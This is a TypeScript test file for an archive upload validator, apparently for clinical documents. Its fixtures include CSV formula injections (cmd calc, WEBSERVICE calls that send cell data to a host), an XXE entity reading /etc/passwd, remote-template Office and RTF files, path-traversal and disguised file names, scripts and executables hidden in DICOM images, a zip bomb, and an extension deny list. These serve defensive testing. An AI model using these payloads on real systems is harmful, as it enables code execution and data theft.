import { createHook } from 'node:async_hooks';
import { describe, expect, it } from 'vitest';
import { descriptorOf, largeEnd, office, TEXT, typeOf, zip } from '../archives.test-support';
import { PNG, pdf } from '../contents.test-support';

const PDF = pdf();
const DICOM = Buffer.concat([Buffer.alloc(128), Buffer.from('DICM\x02\0', 'latin1')]);
const COMPANION = Buffer.from([0, 5, 0x16, 7, 0, 2, 0, 0, ...Buffer.from('Mac OS X        ')]);
const beginning = (head: string | Buffer) =>
  Buffer.concat([Buffer.from(head), DICOM.subarray(Buffer.byteLength(head))]);
const ELSEWHERE = (said: Parameters<typeof largeEnd>[0]) => largeEnd({ ...said, offset: said.offset - 1 });
const MAIL = 'Date: Mon, 2 Mar 2026 10:00:00 +0100\nFrom: a@example.org\nTo: b@example.org\n\nx';
const FRAME =
  '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/frame" Target="http://a.example" TargetMode="External"/></Relationships>';

/** Nests an archive in archives, `depth` times. */
function nested(content: Buffer, depth: number): Buffer {
  return depth === 0 ? content : zip({ 'a.zip': nested(content, depth - 1) });
}

describe('an accepted archive', () => {
  it.each([
    [
      'with what is taken by itself',
      zip({ 'informe.pdf': PDF, 'foto.jpg': PNG, 'correo.eml': MAIL, 'a/b.docx': office(TEXT) }),
    ],
    ['with pictures of a disc, as discs name them', zip({ DICOMDIR: DICOM, 'IMG/IM000001': DICOM, 'a.dcm': DICOM })],
    [
      'with pictures that begin as those of other viewers',
      zip({ 'a.dcm': beginning('II*\0\x08\0\0\0'), IM2: beginning(PNG) }),
    ],
    [
      'with texts, tables and data',
      zip({
        'a.txt': 'Informe clínico',
        'b.csv': 'nombre;dosis\n"a-b";-5\n',
        'c.xml': '<?xml version="1.0" encoding="ISO-8859-1"?><ClinicalDocument xmlns="urn:hl7-org:v3"/>',
      }),
    ],
    [
      'with a text of an older system',
      zip({ 'a.txt': Buffer.from('Informe clínico', 'latin1'), 'b.txt': Buffer.from('\ufeffInforme', 'utf16le') }),
    ],
    [
      'with data in the encoding that it names',
      zip({ 'a.xml': Buffer.from('<?xml version="1.0" encoding="windows-1252"?><a>clínico</a>', 'latin1') }),
    ],
    [
      'that was packed on a Mac',
      zip({
        'a/.DS_Store': Buffer.from('\0\0\0\x01Bud1', 'latin1'),
        'a/x.pdf': PDF,
        '__MACOSX/a/._x.pdf': COMPANION,
        '__MACOSX/._a': COMPANION,
        '__MACOSX/._Dr. Pérez': COMPANION,
        '__MACOSX/a/._v1.2': COMPANION,
      }),
    ],
    ['with a text that is called a document', zip({ 'informe.doc': '{\\rtf1\\ansi Informe}' })],
    [
      'with tables in which programs reckon',
      zip({
        'a.csv':
          'paciente;dosis;nota\n="00123";=SUM(B2:B3);-5\n+34 600 123 456;-1,5;"- Cisplatino (75 mg/m2)\n- Pemetrexed"\n',
        'b.csv':
          'sep=;\nweb;https://example.org\n=HYPERLINK("https://example.org";"Guía");1\n"=HYPERLINK(""https://example.org"")";2\n',
        'c.csv': 'a\n\\\\host\\a\n"Dijo: ""="\n',
      }),
    ],
    ['with archives in it', nested(zip({ 'a.pdf': PDF }), 2)],
    ['with a name in another encoding', zip({ 'Informe clínico (1).pdf': PDF })],
    ['with names like those of devices', zip({ 'contrato.pdf': PDF, 'com 1.pdf': PDF, '⚠\ufe0f aviso.pdf': PDF })],
    ['with its name once more', zip({ 'informe.pdf': PDF }, { otherNames: ['infórme.pdf'] })],
    [
      'with its name once more in both places',
      zip({ 'informe.pdf': PDF }, { otherNames: ['infórme.pdf'], otherLocalNames: ['infórme.pdf'] }),
    ],
    ['with its own name once more where it lies', zip({ 'informe.pdf': PDF }, { otherLocalNames: ['informe.pdf'] })],
    ['whose sizes follow, as a Mac writes them', zip({ 'a.pdf': PDF, 'b.pdf': PDF }, { descriptor: descriptorOf })],
    ['with an end of the larger kind', zip({ 'a.pdf': PDF }, { beforeEnd: largeEnd })],
    ['with a comment', zip({ 'a.pdf': PDF }, { comment: Buffer.from('Informe'), entryComment: Buffer.from('x') })],
    [
      'with pictures of a stick, on which everything may run',
      zip({ 'IMG/IM000001': DICOM, 'a.pdf': PDF }, { mode: 0o100777 }),
    ],
  ])('%s', async (_what, content) => {
    expect(await typeOf(content)).toMatchObject({ extension: 'zip' });
  });
});

describe('a name in an archive', () => {
  it.each([
    ['informe.pdf.'],
    ['informe.pdf '],
    ['informe.exe .pdf/a.pdf '],
    [' informe.pdf'],
    ['carpeta./a.pdf'],
    ['carpeta /a.pdf'],
    ['a//b.pdf'],
    ['./a.pdf'],
    ['a/../b.pdf'],
    ['../a.pdf'],
    ['/a.pdf'],
    ['~/a.pdf'],
    ['C:/a.pdf'],
    ['C:a.pdf'],
    ['\\\\host\\a.pdf'],
    ['a\\b.pdf'],
    ['a.exe:b.pdf'],
    ['informe\u202efdp.exe.pdf'],
    ['informe\u200b.pdf'],
    ['informe\u00ad.pdf'],
    ['informe\0.pdf'],
    ['informe\n.pdf'],
    ['con.pdf'],
    ['con .pdf'],
    ['COM¹.pdf'],
    ['lpt³.pdf'],
    ['\u2800.pdf'],
    ['\u3164informe.pdf'],
    ['informe\u115f.pdf'],
    ['\u1160.pdf'],
    ['\uffa0.pdf'],
    ['\ufe0f.pdf'],
    ['informe\u034f.pdf'],
    ['LPT1.pdf'],
    ['a.{21EC2020-3AEA-1069-A2DD-08002B30309D}/a.pdf'],
    ['a?.pdf'],
    ['informe'],
    ['informe.'],
    ['.pdf.exe'],
    ['desktop.ini'],
  ])('is refused: %j', async (name) => {
    await expect(typeOf(zip({ [name]: PDF }))).rejects.toThrow('forbidden_archive');
  });

  it.each(
    'exe com scr pif bat cmd msi dll cpl lnk url reg inf chm hta jar class ps1 vbs js wsf sh py php htm html svg swf xll docm xlsm pptm pptx xlsb xlam iqy slk dqy oqy rqy wiz settingcontent-ms library-ms search-ms appref-ms application diagcab msc gadget scf theme vhd vhdx iso img one rar 7z gz tar cab desktop command workflow terminal webloc xsl xslt rdp ade mdb accdb pub odp odg ott dotx xltx'.split(
      ' ',
    ),
  )('is refused by its extension: .%s', async (ending) => {
    await expect(typeOf(zip({ [`a.${ending}`]: 'x' }))).rejects.toThrow('forbidden_archive');
    await expect(typeOf(zip({ [`a.${ending.toUpperCase()}`]: PDF }))).rejects.toThrow('forbidden_archive');
  });
});

describe('a refused archive', () => {
  it.each([
    ['with a program that is called a text', zip({ 'a.txt': Buffer.from('4d5a900003000000', 'hex') })],
    ['with a page that is called a table', zip({ 'a.csv': '<table><tr><td>x' })],
    ['with a sheet of another kind that is called a table', zip({ 'a.csv': 'ID;PWXL;N;E\nC;Y1;X1;K"x"' })],
    ['with a table that asks another program', zip({ 'a.csv': "a;b\n1;=cmd|'/c calc'!A0\n" })],
    ['with a table that asks another program by a wide sign', zip({ 'a.csv': "\ufeffa;b\n1;＝cmd|'/c calc'!A0\n" })],
    ['with a table that asks another program behind a blank', zip({ 'a.csv': 'a;" +cmd|\'/c calc\'!A0"\n' })],
    ['with a table that fetches', zip({ 'a.csv': '=WEBSERVICE("http://h/"&A1);1' })],
    ['with a table that fetches by a Spanish name', zip({ 'a.csv': '1;@SERVICIOWEB(A1&B1)' })],
    ['with a table whose link is put together', zip({ 'a.csv': '=HYPERLINK("http://h/"&A1);1' })],
    ['with a table that brings in another book', zip({ 'a.csv': "='\\\\host\\share\\[x.xls]S'!A1;1" })],
    ['with a table that fetches over lines', zip({ 'a.csv': 'a;"\n=\nWEBSERVICE\n(""http""&A1)"\n' })],
    ['with a table that fetches behind another line’s quotes', zip({ 'a.csv': '"=1\n+1";2;=WEBSERVICE(A1)\n' })],
    ['with a table that fetches at its end', zip({ 'a.csv': `${'-5;'.repeat(60_000)}=WEBSERVICE(A1)` })],
    ['with a table that parts its cells in a way of its own', zip({ 'a.csv': 'sep=x\nax=WEBSERVICE(A1)' })],
    [
      'with a table that asks another program in another encoding',
      zip({ 'a.csv': Buffer.from("\ufeff=cmd|'/c calc'!A0", 'utf16le') }),
    ],
    [
      'with a page that is called data',
      zip({ 'a.xml': '<html xmlns="http://www.w3.org/1999/xhtml"><script/></html>' }),
    ],
    [
      'with data that brings in other data',
      zip({ 'a.xml': '<a><i xmlns="http://www.w3.org/2001/XInclude" href="b"/></a>' }),
    ],
    ['with a page within data', zip({ 'a.xml': '<a><x:script xmlns:x="http://www.w3.org/1999/xhtml"/></a>' })],
    [
      'with data that asks for a sheet of style',
      zip({ 'a.xml': '<?xml-stylesheet href="http://a.example/a.xsl"?><a/>' }),
    ],
    ['with a document that is called data', zip({ 'a.xml': '<?mso-application progid="Word.Document"?><a/>' })],
    [
      'with data that has words of its own',
      zip({ 'a.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
    ],
    ['with data that is not well-formed', zip({ 'a.xml': '<a>' })],
    ['with a document that fetches', zip({ 'a.docx': office(TEXT, { '_rels/a.rels': FRAME }) })],
    [
      'with a document that fetches in an archive',
      nested(zip({ 'a.docx': office(TEXT, { '_rels/a.rels': FRAME }) }), 1),
    ],
    ['with an RTF that fetches, called a document', zip({ 'a.doc': '{\\rtf1{\\*\\template http://a.example/a.dot}}' })],
    ['with a program in an archive', nested(zip({ 'a.exe': 'MZ' }), 2)],
    ['with archives in archives in archives', nested(zip({ 'a.pdf': PDF }), 8)],
    ['with content of another kind than its name says', zip({ 'a.eml': PDF })],
    ['with a picture that is called a document', zip({ 'a.doc': PNG })],
    ['with no picture where a disc has one', zip({ IM000001: '#!/bin/sh\n' })],
    [
      'with a script where a picture has nothing',
      zip({ Informe: beginning('#!/bin/sh\necho x; exit\n') }, { mode: 0o100755 }),
    ],
    ['with commands where a picture without an ending has nothing', zip({ IM1: beginning('echo x; exit\n') })],
    ['with a program where a picture has nothing', zip({ 'a.dcm': beginning('MZ') })],
    ['with a program of Linux where a picture has nothing', zip({ IM1: beginning(Buffer.from('7f454c46', 'hex')) })],
    ['with a program in a program of a Mac', zip({ 'Informe.app/Contents/MacOS/run': beginning('#!/bin/sh\n') })],
    ['with a page that is called a companion', zip({ '__MACOSX/._factura.hta': COMPANION })],
    ['with commands that are called a companion', zip({ '__MACOSX/a/._factura.bat': COMPANION })],
    ['with a link that is called a companion', zip({ '__MACOSX/._f.url': COMPANION })],
    ['with a companion without a name', zip({ '__MACOSX/._.hta': COMPANION })],
    ['with a companion that begins as none', zip({ '__MACOSX/._a.pdf': Buffer.from([0, 5, 0x16, 7, 13, 10, 13, 10]) })],
    ['with an ending that is a word of this language', zip({ 'a.constructor': PDF })],
    ['with an ending that is another word of this language', zip({ 'a.__proto__': PDF })],
    ['with something else where a Mac has its own', zip({ '__MACOSX/._a.exe': 'MZ' })],
    ['under a password', zip({ 'informe.pdf': PDF }, { encrypted: true })],
    ['whose directory says another name', zip({ 'a.exe': PDF }, { called: () => 'a.pdf' })],
    [
      'whose entries are behind others that the directory leaves out',
      Buffer.concat([zip({ 'a.exe': 'MZ' }).subarray(0, 37), zip({ 'a.pdf': PDF })]),
    ],
    [
      'with something between its entries and its directory',
      zip({ 'a.pdf': PDF }, { between: zip({ 'a.exe': 'x' }).subarray(0, 36) }),
    ],
    ['with another name beside its own', zip({ 'a.pdf': PDF }, { otherNames: ['a.exe'] })],
    ['with two other names', zip({ 'a.pdf': PDF }, { otherNames: ['a.pdf', 'b.exe'] })],
    ['with another name only where it lies', zip({ 'a.pdf': PDF }, { otherLocalNames: ['b.exe'] })],
    [
      'with another name where it lies than in the directory',
      zip({ 'a.pdf': PDF }, { otherNames: ['b.pdf'], otherLocalNames: ['c.pdf'] }),
    ],
    ['whose larger end leads to another directory', zip({ 'a.pdf': PDF }, { beforeEnd: ELSEWHERE })],
    ['with anything before its end', zip({ 'a.pdf': PDF }, { beforeEnd: () => Buffer.alloc(76) })],
    [
      'with a larger end in an entry’s comment',
      zip({ 'a.pdf': PDF }, { entryComment: largeEnd({ count: 1, length: 51, offset: 52 }) }),
    ],
    ['with another end in its comment', zip({ 'a.pdf': PDF }, { comment: zip({}).fill(1, 20) })],
    ['whose sizes that follow are no sizes', zip({ 'a.pdf': PDF }, { descriptor: () => Buffer.alloc(24) })],
    ['whose sizes that follow are others', zip({ 'a.pdf': PDF }, { descriptor: (length) => descriptorOf(length + 1) })],
    ['with a device', zip({ 'a.pdf': PDF }, { mode: 0o010644 })],
    ['with a wild name beside its own', zip({ 'a.pdf': PDF }, { otherNames: ['../a.pdf'] })],
    ['with a link', zip({ 'a.txt': '/etc/passwd' }, { mode: 0o120777 })],
    ['with a folder that has content', zip({ 'a/': 'x' })],
    ['with two names that are one', zip({ 'a.pdf': PDF, 'A.pdf': PDF })],
    ['with two names that look alike', zip({ 'á.pdf': PDF, 'a\u0301.pdf': PDF })],
    [
      'with more in archives than fits',
      zip({
        'a.zip': zip({ 'a.txt': 'x'.repeat(120_000_000) }, { packed: true }),
        'b.zip': zip({ 'a.txt': 'x'.repeat(120_000_000) }, { packed: true }),
      }),
    ],
  ])('%s', async (_what, content) => {
    await expect(typeOf(content)).rejects.toThrow(/^forbidden_/);
  });

  it('is cheap to check: a table of endless signs', async () => {
    const began = process.cpuUsage();
    await typeOf(zip({ 'a.csv': ',=|'.repeat(5_000_000) }, { packed: true })).catch(() => undefined);
    expect(process.cpuUsage(began).user).toBeLessThan(15_000_000);
  }, 180_000);
});

describe('an archive of thousands of tiny files', () => {
  const manyOf = (ending: string, content: string, length = 4_900) =>
    zip(Object.fromEntries(Array.from({ length }, (_, at) => [`a/${at}.${ending}`, content])), { packed: true });

  it.each([
    ['texts', manyOf('txt', 'Informe clínico')],
    ['tables', manyOf('csv', 'Fármaco;Dosis')],
    ['data', manyOf('xml', '<a>1</a>')],
    ['e-mails', manyOf('eml', MAIL)],
  ])('takes less than one slow step per file: %s', async (_what, archive) => {
    expect(await slowSteps(() => typeOf(archive))).toBeLessThan(4_900);
  });

  // Entries of an inner archive lie in memory, without disk reads that let other work run.
  it('lets other work run between two of them', async () => {
    let [isOver, steps, most] = [false, 0, 0];
    const takeTurn = () => {
      most = Math.max(most, steps);
      steps = 0;
      if (!isOver) setImmediate(takeTurn);
    };
    setImmediate(takeTurn);
    const archive = zip({ 'a.zip': manyOf('txt', 'Informe', 2_000) });
    await hearing(
      () => {
        steps += 1;
      },
      () => typeOf(archive),
    );
    isOver = true;
    expect(most).toBeLessThan(100_000);
  });
});

/** Disk operations, and stream steps that pass data on. */
const SLOW = new Set(['FSREQPROMISE', 'FSREQCALLBACK', 'FILEHANDLE', 'FILEHANDLECLOSEREQ', 'TickObject']);

async function slowSteps(run: () => Promise<unknown>): Promise<number> {
  let steps = 0;
  await hearing((type) => {
    if (SLOW.has(type)) steps += 1;
  }, run);
  return steps;
}

/** Calls `hear` with the type of every async operation started during `run`. */
async function hearing(hear: (type: string) => void, run: () => Promise<unknown>): Promise<void> {
  const hook = createHook({ init: (_id, type) => hear(type) }).enable();
  await run().finally(() => hook.disable());
}
